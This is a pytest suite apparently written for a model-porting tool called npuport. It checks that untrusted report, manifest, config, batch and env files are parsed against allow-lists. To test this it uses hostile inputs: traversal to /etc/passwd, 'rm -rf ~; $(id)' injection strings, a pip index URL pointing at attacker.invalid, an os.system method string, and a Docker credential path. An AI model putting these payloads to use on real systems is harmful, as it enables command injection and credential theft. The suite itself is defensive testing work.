"""Untrusted files are data (issue #42): every field npuport's own process reads from a model folder, a
bundle, a manifest or an upload is parsed against an allow-list before it is used (knowledge/untrusted.py).
This walks them: each field gets a path that climbs out, a newline with a command, a version no table lists,
a value of the wrong type; each must be refused or read as a safe value, never used as given."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from .conftest import MANIFEST, write_model

CLIMB = "../../../etc/passwd"
INJECT = "x\nrm -rf ~; $(id) `id` ' \""


# --- a bundle's report.json, as `npuport verify` reads it (agents/deploy/verify_input.py) ----------------------

def _report(original: Path) -> dict[str, Any]:
    from agents.workspace import tree_digest

    return {"request": {"model_path": "/elsewhere", "target": "cpu", "chip": "910b", "torch_npu": "2.13.0"},
            "target": {"name": "cpu", "options": {"matrix_path": "/root/.docker/config.json"}},
            "environment": {"python": "/tmp/evil/bin/python"}, "entry": yaml.safe_load(MANIFEST),
            "numerics": {"port_tokens": [[1, 2]], "compared": "tokens", "metrics": {"dtype": "float32"}},
            "perf": {"profiled": True, "pathologies": [{"kind": "host-sync", "module": "m", "where": "m.py:3"}]},
            "tuning": {"best": {"batch": 2, "dtype": "float32"}, "tuned": {"tokens_per_s": 10.0, "concurrency": 2,
                                                                          "points": [{"concurrency": 2, "spread": 0.1}],
                                                                          "untuned": {"tokens_per_s": 5.0}}},
            "deployment": {"status": "served", "tokens": {"served": [[1]], "decided_by": "exact tokens"},
                           "throughput": {"rows": [{"concurrency": 1, "output_tokens_per_s": 3.0}]}},
            "runs": [{"reference_adjusted": True}], "original_digest": tree_digest(original)}


REFUSED_REPORT_FIELDS = [
    (("request", "torch_npu"), "2.13.0\n--index-url http://attacker.invalid"),
    (("request", "torch_npu"), "9.9.9"),
    (("request", "target"), "cpu; id"),
    (("request", "chip"), INJECT),
    (("request", "run_timeout_s"), 1e12),
    (("entry", "config"), CLIMB),
    (("entry", "config"), "/etc/passwd"),
    (("entry", "entry"), {"class": "modeling_hostile:TinyLM", "auto_map": "x"}),  # both: the schema refuses
    (("entry", "inputs"), "a b:c"),
    (("entry", "run"), {"method": "__import__('os').system"}),
    (("numerics", "port_tokens"), [["1; id"]]),
    (("perf", "pathologies"), [{"kind": "x" * 1000}]),
    (("tuning", "best"), {"batch; id": 1}),
    (("tuning", "best"), {"dtype": {"nested": "object"}}),
    (("tuning", "tuned"), {"tokens_per_s": -1.0}),
    (("deployment", "status"), "s" * 500),
    (("deployment", "tokens"), {"served": [["not", "ints"]]}),
    (("deployment", "throughput"), {"rows": [{"concurrency": 10**9}]}),
]


def _set(d: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    for key in path[:-1]:
        d = d.setdefault(key, {})
    d[path[-1]] = value


@pytest.mark.parametrize(("path", "value"), REFUSED_REPORT_FIELDS, ids=lambda v: str(v)[:30])
def test_every_report_field_verify_reads_is_checked(tmp_path: Path, path: tuple[str, ...], value: Any) -> None:
    from agents.deploy.verify_input import read_claims
    from knowledge.errors import UntrustedValue

    original = write_model(tmp_path / "original")
    report = _report(original)
    _set(report, path, value)
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "report.json").write_text(json.dumps(report))
    with pytest.raises(UntrustedValue):
        read_claims(bundle, original)


def test_what_verify_reads_of_a_report_is_only_typed_values(tmp_path: Path) -> None:
    """The fields verify keeps: typed; the paths the report names (model_path, the op matrix, the interpreter)
    are nowhere in what it keeps; values of no allowed kind read as safe defaults."""
    from agents.deploy.verify_input import read_claims

    original = write_model(tmp_path / "original")
    report = _report(original)
    report["numerics"]["compared"] = "rm -rf"
    report["numerics"]["metrics"]["dtype"] = INJECT
    report["original_digest"] = CLIMB
    report["runs"] = "not a list"
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "report.json").write_text(json.dumps(report))
    claims = read_claims(bundle, original)
    assert claims.request.model_path == str(original) and claims.request.out_dir is None
    assert claims.numerics.compared is None and claims.numerics.dtype == "float32"
    assert claims.original_digest is None and claims.reference_adjusted is False
    state = json.dumps(claims.state(tmp_path, {"name": "cpu"}, None))
    for named in ("/elsewhere", "/root/.docker", "/tmp/evil"):
        assert named not in state


# --- a model folder's npuport.yaml, as the planner reads it (agents/reading/entry.py) -------------------------

MANIFEST_FIELDS = [("config", CLIMB), ("config", "/etc/hostname"), ("config", "~/x.json"),
                   ("entry", {"class": "modeling_hostile:TinyLM; import os"}), ("inputs", "../x:f"),
                   ("decode", "a:b c"), ("run", {"method": "generate\nimport os"}), ("run", {"step": "a.b"}),
                   ("run", {"preprocess": "x y"}), ("unknown_field", "x")]


@pytest.mark.parametrize(("field", "value"), MANIFEST_FIELDS, ids=lambda v: str(v)[:30])
def test_every_manifest_field_the_planner_reads_is_checked(tmp_path: Path, field: str, value: Any) -> None:
    from agents.reading.entry import discover_entry
    from knowledge.errors import ManifestError

    model = write_model(tmp_path / "m")
    manifest = yaml.safe_load(MANIFEST)
    manifest[field] = value
    (model / "npuport.yaml").write_text(yaml.safe_dump(manifest))
    with pytest.raises(ManifestError):
        discover_entry(model)


# --- config.json read outside the sandbox (the bundle's serve settings, the tuner's facts) ---------------------

def test_config_values_read_outside_the_sandbox_are_typed(tmp_path: Path) -> None:
    from agents.deploy import serve
    from agents.tuning.space import model_facts
    from knowledge.errors import UntrustedValue
    from knowledge.untrusted import read_model_config

    model = write_model(tmp_path / "m")
    config = {"torch_dtype": INJECT, "hidden_size": "4096; id", "num_attention_heads": True,
              "max_position_embeddings": "1e9", "architectures": INJECT, "vocab_size": -5, "n_routed_experts": 8}
    (model / "config.json").write_text(json.dumps(config))
    facts = model_facts(read_model_config(model, {"config": "config.json"}), has_custom_code=True)
    assert facts.dtype == "float32" and facts.hidden_size == 0 and facts.num_heads == 0 and facts.max_position == 0
    assert facts.architectures == () and facts.vocab_size == 0 and facts.moe
    mc = serve.model_class(config, model)
    assert mc.max_len is None  # a string is not a length
    (model / "config.json").unlink()
    (model / "config.json").symlink_to("/etc/passwd")
    with pytest.raises(UntrustedValue):
        read_model_config(model, None)
    (model / "cfg.json").write_text("[1, 2]")
    with pytest.raises(UntrustedValue):
        read_model_config(model, {"config": "cfg.json"})  # not an object


# --- a batch manifest (the CLI's and POST /v1/batches) -------------------------------------------------------

BATCH_FIELDS = [(("name",), ".."), (("models", 0, "name"), "../x"), (("defaults", "torch_npu"), "1.0; id"),
                (("models", 0, "torch_npu"), "../../x"), (("defaults", "timeout_s"), 1e12),
                (("defaults", "budget", "run_timeout_s"), 1e12), (("models", 0, "unknown"), 1),
                (("defaults", "target"), "cpu\nid")]


@pytest.mark.parametrize(("path", "value"), BATCH_FIELDS, ids=lambda v: str(v)[:30])
def test_every_batch_manifest_field_is_checked(path: tuple[Any, ...], value: Any) -> None:
    from graph.batch.manifest import BatchManifest

    raw: dict[str, Any] = {"name": "b", "defaults": {"budget": {}}, "models": [{"path": "m"}]}
    with pytest.raises(ValueError):
        BatchManifest.model_validate(_rebuild(raw, path, value))


def _rebuild(raw: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    out = copy.deepcopy(raw)
    d: Any = out
    for key in path[:-1]:
        d = d[key]
    d[path[-1]] = value
    return out


# --- the layered env's files a later sandbox's walls are built from ------------------------------------------

def test_an_envs_own_files_decide_no_bind(tmp_path: Path) -> None:
    """A layered env's folder was writable to the model's wheels: its pyvenv.cfg ``home`` and its marker's
    ``layers`` bind nothing that is not an interpreter or an env of npuport's cache."""
    from sandbox.isolation.bwrap import _interpreter_paths

    env = tmp_path / "env"
    (env / "bin").mkdir(parents=True)
    (env / "bin" / "python").symlink_to("/usr/bin/python3")
    secret = tmp_path / "secrets"
    secret.mkdir()
    (env / "pyvenv.cfg").write_text(f"home = {secret}\n")
    (env / "npuport-env.json").write_text(json.dumps({"layers": [str(secret), "/root", "/"]}))
    paths = _interpreter_paths(str(env / "bin" / "python"))
    assert secret not in paths and secret.parent not in paths
    assert Path("/root") not in paths and Path("/") not in paths
